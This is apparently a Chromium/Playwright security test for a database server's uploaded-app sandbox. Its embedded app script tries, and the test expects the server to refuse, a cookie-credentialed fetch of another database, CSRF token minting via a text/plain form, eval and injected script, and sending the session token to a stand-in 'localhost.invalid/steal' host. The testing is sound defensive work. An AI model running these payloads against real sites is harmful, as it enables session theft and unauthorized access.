// SPDX-License-Identifier: Apache-2.0
// Apps in headless Chromium (Debian's /usr/bin/chromium, driven by playwright-core from
// tools/node), against the real server. An Editor (eve) uploads a zip app (index.html, app.js,
// style.css) that reads the database through GraphQL with the session the page hands it and
// renders the rows; it is opened by eve, by the team's Admin (ada) and, once the database is
// public, by an anonymous visitor: each sees the rows. The same app then attacks as a hostile
// Editor would, with the visiting Admin's rights: it must not reach ada's other database, list
// databases, use her cookie (fetch with credentials: 'include', document.cookie, storage),
// create a token (fetch and a submitted form), eval, run injected inline script, open popups,
// reach another origin, or navigate the page that frames it.
//
// Usage: node tests/browser/apps.test.mjs [--server PATH] [--chromium PATH]
// Exit code 0 and "PASS: apps in Chromium" on success.

import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const option = (name, envName, fallback) => {
  const i = process.argv.indexOf(name);
  if (i >= 0 && process.argv[i + 1]) return process.argv[i + 1];
  return process.env[envName] || fallback;
};
const serverPath = path.resolve(
  option('--server', 'AIRSQL_SERVER', path.join(repoRoot, 'build', 'server', 'airsql-server')));
const chromiumPath = option('--chromium', 'CHROMIUM', '/usr/bin/chromium');
const check = (ok, message) => { if (!ok) throw new Error(message); };
const PASSWORD = 'correct horse battery';

async function startServer(dataDir) {
  const proc = spawn(serverPath, ['--port', '0', '--data-dir', dataDir], { stdio: ['ignore', 'pipe', 'pipe'] });
  const baseUrl = await new Promise((resolve, reject) => {
    let out = '';
    const timer = setTimeout(() => reject(new Error('the server did not start')), 10_000);
    proc.stdout.on('data', (chunk) => {
      out += chunk;
      const m = out.match(/listening on (http:\/\/\S+)/);
      if (m) { clearTimeout(timer); resolve(m[1]); }
    });
    proc.on('exit', (code) => reject(new Error(`the server exited (${code})`)));
  });
  return { proc, baseUrl };
}

async function api(baseUrl, method, urlPath, body, token, { raw, contentType, expect } = {}) {
  const headers = { 'Content-Type': contentType || 'application/json' };
  if (token) headers.Authorization = `Bearer ${token}`;
  const res = await fetch(baseUrl + urlPath, { method, headers, body: raw ?? (body && JSON.stringify(body)) });
  const text = await res.text();
  if (expect !== undefined) {
    check(res.status === expect, `${method} ${urlPath}: expected ${expect}, got ${res.status}: ${text.slice(0, 300)}`);
  } else {
    check(res.ok, `${method} ${urlPath}: HTTP ${res.status}: ${text.slice(0, 300)}`);
  }
  return text ? JSON.parse(text) : null;
}

// The app's script. It renders the notes, then tries every attack and records the outcomes in
// window.appResults (read by the test through the DevTools protocol).
function appScript(secretDb) {
  return `
const ctx = JSON.parse(document.querySelector('meta[name="airsql-app"]').content);
const auth = ctx.token ? { Authorization: 'Bearer ' + ctx.token } : {};
const results = { token: ctx.token ? 'present' : 'none' };
async function status(p) {
  try { const r = await p; return r.status; } catch (e) { return 'blocked'; }
}
function attempt(f) { try { return 'allowed: ' + String(f()); } catch (e) { return 'blocked'; } }
async function run() {
  const q = await fetch(ctx.graphql, { method: 'POST', headers: { ...auth, 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: '{ notes(order_by: [{id: ASC}]) { body } }' }) });
  const data = await q.json();
  const list = document.getElementById('notes');
  for (const n of data.data.notes) {
    const li = document.createElement('li');
    li.textContent = n.body;
    list.appendChild(li);
  }
  results.origin = String(self.origin);
  results.listDatabases = await status(fetch('/api/dbs', { headers: auth }));
  results.otherDatabase = await status(fetch('/dbs/${secretDb}/graphql', { method: 'POST',
    headers: { ...auth, 'Content-Type': 'application/json' }, body: JSON.stringify({ query: '{ secrets { x } }' }) }));
  results.cookieFetch = await status(fetch('/api/dbs', { credentials: 'include' }));
  results.cookieGraphql = await status(fetch('/dbs/${secretDb}/graphql', { method: 'POST', credentials: 'include',
    headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ query: '{ secrets { x } }' }) }));
  results.tokenFetch = await status(fetch('/api/tokens', { method: 'POST', credentials: 'include',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ name: 'stolen', description: '', team_name: 'vault', permissions: [] }) }));
  results.tokenWithScoped = await status(fetch('/api/tokens', { method: 'POST',
    headers: { ...auth, 'Content-Type': 'application/json' },
    body: JSON.stringify({ name: 'stolen2', description: '', team_name: 'vault', permissions: [] }) }));
  results.documentCookie = attempt(() => document.cookie);
  results.localStorage = attempt(() => localStorage.length);
  results.eval = attempt(() => eval('6 * 7'));
  results.popup = attempt(() => window.open('/api/dbs') ? 'opened' : null);
  results.otherOrigin = await status(fetch('http://localhost.invalid:9/steal?x=' + encodeURIComponent(ctx.token || '')));
  const s = document.createElement('script');
  s.textContent = 'window.injectedRan = true';
  document.body.appendChild(s);
  results.injectedScript = window.injectedRan ? 'ran' : 'blocked';
  results.styled = getComputedStyle(document.getElementById('notes')).color;
  results.done = true;
  window.appResults = results;
}
window.submitTokenForm = () => {
  const f = document.createElement('form');
  f.method = 'POST';
  f.action = '/api/tokens';
  f.enctype = 'text/plain';
  const i = document.createElement('input');
  i.name = '{"name":"formstolen","description":"","team_name":"vault","permissions":[],"x":"';
  i.value = '"}';
  f.appendChild(i);
  document.body.appendChild(f);
  f.submit();
};
window.navigateTop = () => { try { window.top.location.href = '/api/dbs'; return 'tried'; } catch (e) { return 'blocked'; } };
run().catch((e) => { window.appResults = { done: true, failed: String(e && e.stack || e) }; });
`;
}

// Polls for the app's results (waitForFunction would evaluate a string: the app's CSP refuses
// eval, as it should).
async function waitDone(target, who) {
  for (let i = 0; i < 150; i++) {
    if (await target.evaluate(() => Boolean(window.appResults && window.appResults.done))) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`${who}: the app did not finish in 15 s`);
}

function makeZip(dir, files) {
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, 'src', name)), { recursive: true });
    fs.writeFileSync(path.join(dir, 'src', name), text);
  }
  const zip = path.join(dir, 'app.zip');
  const py = `import zipfile,os,sys\nwith zipfile.ZipFile(sys.argv[1],'w',zipfile.ZIP_DEFLATED) as z:\n` +
    `    for root,_,names in os.walk(sys.argv[2]):\n        for n in names:\n` +
    `            p=os.path.join(root,n); z.write(p, os.path.relpath(p, sys.argv[2]))\n`;
  const r = spawnSync('python3', ['-c', py, zip, path.join(dir, 'src')]);
  check(r.status === 0, `zip: ${r.stderr}`);
  return fs.readFileSync(zip);
}

async function main() {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'airsql-apps-'));
  const { proc, baseUrl } = await startServer(path.join(tmp, 'data'));
  let browser;
  try {
    // ada: server admin, Admin of her team "ada" and of "vault" (eve is in neither's vault).
    for (const u of ['ada', 'eve']) {
      await api(baseUrl, 'POST', '/api/users', { username: u, email_address: `${u}@example.org`, password: PASSWORD });
    }
    const ada = (await api(baseUrl, 'POST', '/api/login', { username: 'ada', password: PASSWORD })).sessionToken;
    const eve = (await api(baseUrl, 'POST', '/api/login', { username: 'eve', password: PASSWORD })).sessionToken;
    await api(baseUrl, 'PATCH', '/api/teams/ada/members/eve', { roles: ['Editor'] }, ada);
    await api(baseUrl, 'POST', '/api/teams', { name: 'vault' }, ada);
    const main = await api(baseUrl, 'POST', '/api/dbs', { name: 'main', team: 'ada',
      query: "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT); INSERT INTO notes (body) VALUES ('first'), ('second')" }, ada);
    const secret = await api(baseUrl, 'POST', '/api/dbs', { name: 'secret', team: 'vault',
      query: "CREATE TABLE secrets (x TEXT); INSERT INTO secrets VALUES ('the crown jewels')" }, ada);

    // eve (Editor) uploads the app.
    const zip = makeZip(tmp, {
      'index.html': '<!doctype html><html><head><meta charset="utf-8"><title>Notes</title>' +
        '<link rel="stylesheet" href="style.css"></head><body><h1>Notes</h1><ul id="notes"></ul>' +
        '<script src="js/app.js"></script></body></html>',
      'style.css': '#notes { color: rgb(0, 128, 0); }',
      'js/app.js': appScript(secret.id),
    });
    const app = await api(baseUrl, 'POST', `/api/dbs/${main.id}/apps?name=notes`, null, eve,
      { raw: zip, contentType: 'application/zip', expect: 201 });
    const appUrl = `${baseUrl}/dbs/${main.id}/apps/${app.id}`;

    const require = createRequire(path.join(repoRoot, 'tools', 'node', 'package.json'));
    const { chromium } = require('playwright-core');
    browser = await chromium.launch({ executablePath: chromiumPath, headless: true, args: ['--no-sandbox'] });

    async function signedIn(user) {
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(`${baseUrl}/api/status`);
      const s = await page.evaluate(async ([u, p]) => (await fetch('/api/login', {
        method: 'POST', credentials: 'same-origin', headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ username: u, password: p }) })).status, [user, PASSWORD]);
      check(s === 200, `${user} signs in: HTTP ${s}`);
      return { context, page };
    }

    async function openApp(page, who) {
      const res = await page.goto(appUrl);
      check(res.status() === 200, `${who} opens the app: HTTP ${res.status()}`);
      await waitDone(page, who);
      const results = await page.evaluate(() => window.appResults);
      check(!results.failed, `${who}: the app failed: ${results.failed}`);
      const notes = await page.locator('#notes li').allTextContents();
      check(JSON.stringify(notes) === '["first","second"]', `${who}: the app shows ${JSON.stringify(notes)}`);
      check(results.styled === 'rgb(0, 128, 0)', `${who}: the style sheet did not load (${results.styled})`);
      check(results.origin === 'null', `${who}: the app runs in origin ${results.origin}, not an opaque one`);
      return results;
    }

    function checkAttacks(who, r) {
      const expectRefused = (name, ok) => check(ok(r[name]), `${who}: ${name} was not refused: ${JSON.stringify(r[name])}`);
      const refused = (v) => v === 'blocked' || (typeof v === 'number' && v >= 400);
      expectRefused('listDatabases', (v) => v === 403);
      expectRefused('otherDatabase', (v) => v === 404);
      expectRefused('cookieFetch', refused);
      expectRefused('cookieGraphql', refused);
      expectRefused('tokenFetch', refused);
      expectRefused('tokenWithScoped', (v) => v === 403);
      expectRefused('documentCookie', (v) => v === 'blocked');
      expectRefused('localStorage', (v) => v === 'blocked');
      expectRefused('eval', (v) => v === 'blocked');
      expectRefused('popup', (v) => v === 'blocked' || v === 'allowed: null');
      expectRefused('otherOrigin', (v) => v === 'blocked');
      expectRefused('injectedScript', (v) => v === 'blocked');
    }

    // eve, the Editor who wrote it.
    const eveSession = await signedIn('eve');
    const eveResults = await openApp(eveSession.page, 'eve');
    check(eveResults.token === 'present', 'eve: no session in the page');
    checkAttacks('eve', eveResults);

    // ada, the Admin of everything, visits: the app still reaches only this database.
    const adaSession = await signedIn('ada');
    const adaResults = await openApp(adaSession.page, 'ada');
    check(adaResults.token === 'present', 'ada: no session in the page');
    checkAttacks('ada', adaResults);
    console.log(`the app, visited by ada: ${JSON.stringify(adaResults)}`);

    // A form posted to /api/tokens from the app: the response is a refusal, no token exists.
    await Promise.all([adaSession.page.waitForNavigation({ timeout: 15_000 }).catch(() => null),
      adaSession.page.evaluate(() => window.submitTokenForm())]);
    const formAnswer = await adaSession.page.evaluate(() => document.body.innerText).catch(() => '');
    console.log(`the form's answer: ${formAnswer.slice(0, 200)}`);
    check(!/"body"\s*:\s*"ast_/.test(formAnswer), `the form created a token: ${formAnswer.slice(0, 300)}`);
    const tokens = await api(baseUrl, 'GET', '/api/teams/vault/tokens', undefined, ada);
    const names = JSON.stringify(tokens);
    check(!/stolen/.test(names), `a token was created by the app: ${names}`);

    // Framed by a page of this origin, the app cannot navigate that page.
    const frameHost = adaSession.page;
    await frameHost.goto(`${baseUrl}/api/status`);
    await frameHost.evaluate((src) => new Promise((resolve) => {
      const f = document.createElement('iframe');
      f.src = src;
      f.onload = resolve;
      document.body.appendChild(f);
    }), appUrl);
    const frame = frameHost.frames().find((f) => f.url().startsWith(appUrl));
    check(frame, 'the app did not load in a frame');
    await waitDone(frame, 'the framed app');
    await frame.evaluate(() => window.navigateTop());
    await new Promise((r) => setTimeout(r, 500));
    check(frameHost.url() === `${baseUrl}/api/status`, `the framed app navigated the top page to ${frameHost.url()}`);

    // An anonymous visitor: nothing for a private database; for a public one, the rows.
    const anon = await browser.newContext();
    const anonPage = await anon.newPage();
    const refused = await anonPage.goto(appUrl);
    check(refused.status() === 404, `anonymous, private database: HTTP ${refused.status()}`);
    await api(baseUrl, 'PATCH', `/api/dbs/${main.id}`, { visibility: 'public' }, ada);
    const anonResults = await openApp(anonPage, 'anonymous visitor');
    check(anonResults.token === 'none', 'anonymous: a session was handed out');
    check(anonResults.otherDatabase === 404, `anonymous: other database ${anonResults.otherDatabase}`);
    check(anonResults.listDatabases === 401, `anonymous: /api/dbs ${anonResults.listDatabases}`);
    console.log('PASS: apps in Chromium');
  } finally {
    if (browser) await browser.close();
    proc.kill('SIGTERM');
  }
}

main().catch((e) => { console.error(`FAIL: ${e.stack || e.message}`); process.exit(1); });
